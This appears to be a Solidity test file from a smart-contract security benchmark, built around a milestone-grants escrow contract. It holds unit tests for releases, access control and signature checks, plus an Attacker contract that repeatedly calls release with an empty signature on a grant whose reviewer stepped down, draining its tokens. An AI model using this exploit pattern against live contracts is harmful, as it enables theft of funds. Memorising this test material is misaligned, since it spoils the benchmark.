// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./MilestoneGrants.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-e9ee9cfa-8e11-4198-80d8-aa0493067467

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Daiz is ERC20 {
    constructor() ERC20("Daiz", "DAIZ") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant DAO = address(0xDA0);
    uint256 private constant REV_KEY = 0x4E7;
    uint256 private constant SUB_KEY = 0x5B8;

    Daiz private daiz;
    MilestoneGrants private grants;
    Attacker private mallory;
    address private rev;
    address private sub;

    function setUp() public {
        rev = vm.addr(REV_KEY);
        sub = vm.addr(SUB_KEY);
        daiz = new Daiz();
        grants = new MilestoneGrants(daiz, DAO);
        mallory = new Attacker(grants);
        daiz.transfer(DAO, 100_000e18);
        vm.startPrank(DAO);
        daiz.approve(address(grants), 100_000e18);
        grants.open(ANA, rev, 500e18, 6);
        grants.open(address(mallory), rev, 100e18, 12);
        vm.stopPrank();
        vm.prank(rev);
        grants.stepDown(1);
    }

    function signed(uint256 key, uint256 id, uint32 step) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, grants.releaseHash(id, step));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        grants.release(0, signed(REV_KEY, 0, 0));
        require(daiz.balanceOf(ANA) == 500e18, "first");
        vm.prank(ANA);
        grants.moveTo(0, BEN);
        grants.release(0, signed(REV_KEY, 0, 1));
        require(daiz.balanceOf(BEN) == 500e18, "second");
        vm.prank(rev);
        grants.stepDown(0);
        vm.prank(DAO);
        grants.setReviewer(0, sub);
        grants.release(0, signed(SUB_KEY, 0, 2));
        vm.startPrank(DAO);
        require(grants.close(0) == 1_500e18, "rest");
        require(grants.open(ANA, sub, 1e18, 1) == 2 && grants.count() == 3, "one more");
        grants.transferOwnership(ANA);
        vm.stopPrank();
        grants.release(2, signed(SUB_KEY, 2, 0));
        (, , , uint32 steps, uint32 done) = grants.grants(2);
        require(steps == 1 && done == 1 && daiz.balanceOf(ANA) == 501e18, "complete");
        vm.startPrank(ANA);
        grants.acceptOwnership();
        grants.renounceOwnership();
        vm.stopPrank();
    }

    function stranger() private view returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this));
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(stranger());
        grants.open(ANA, BEN, 1, 1);
        vm.expectRevert(stranger());
        grants.setReviewer(0, BEN);
        vm.expectRevert(stranger());
        grants.close(0);
        vm.expectRevert(abi.encodeWithSelector(MilestoneGrants.NotYou.selector, address(this)));
        grants.stepDown(0);
        vm.expectRevert(abi.encodeWithSelector(MilestoneGrants.NotYou.selector, address(this)));
        grants.moveTo(0, BEN);
        vm.expectRevert("no token");
        new MilestoneGrants(IERC20(address(0)), DAO);
    }

    function test_RefusesPlans() public {
        vm.startPrank(DAO);
        vm.expectRevert("who?");
        grants.open(address(0), BEN, 1, 1);
        vm.expectRevert("who?");
        grants.open(ANA, address(0), 1, 1);
        vm.expectRevert("no self review");
        grants.open(ANA, ANA, 1, 1);
        vm.expectRevert("bad plan");
        grants.open(ANA, BEN, 0, 1);
        vm.expectRevert("bad plan");
        grants.open(ANA, BEN, 1, 0);
        vm.expectRevert("bad plan");
        grants.open(ANA, BEN, 1, 25);
        grants.open(ANA, BEN, 1, 24);
        vm.expectRevert("who?");
        grants.setReviewer(0, address(0));
        vm.expectRevert("no self review");
        grants.setReviewer(0, ANA);
        grants.close(0);
        vm.expectRevert(abi.encodeWithSelector(MilestoneGrants.Over.selector, 0));
        grants.close(0);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("bad wallet");
        grants.moveTo(0, address(0));
        vm.expectRevert("bad wallet");
        grants.moveTo(0, rev);
        vm.stopPrank();
    }

    function test_RefusesSignatures() public {
        bytes memory first = signed(REV_KEY, 0, 0);
        bytes memory other = signed(SUB_KEY, 0, 0);
        vm.expectRevert(abi.encodeWithSelector(MilestoneGrants.WrongSigner.selector, sub));
        grants.release(0, other);
        vm.expectRevert();
        grants.release(0, "");
        grants.release(0, first);
        vm.expectRevert();
        grants.release(0, first);
        vm.prank(DAO);
        grants.close(0);
        first = signed(REV_KEY, 0, 1);
        vm.expectRevert(abi.encodeWithSelector(MilestoneGrants.Over.selector, 0));
        grants.release(0, first);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(daiz.balanceOf(address(mallory)) >= 1_200e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(grants);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(daiz);
    }
}

contract Attacker {
    MilestoneGrants private grants;

    constructor(MilestoneGrants g) {
        grants = g;
    }

    function run() external {
        for (uint256 i = 0; i < 12; i++) grants.release(1, "");
    }
}
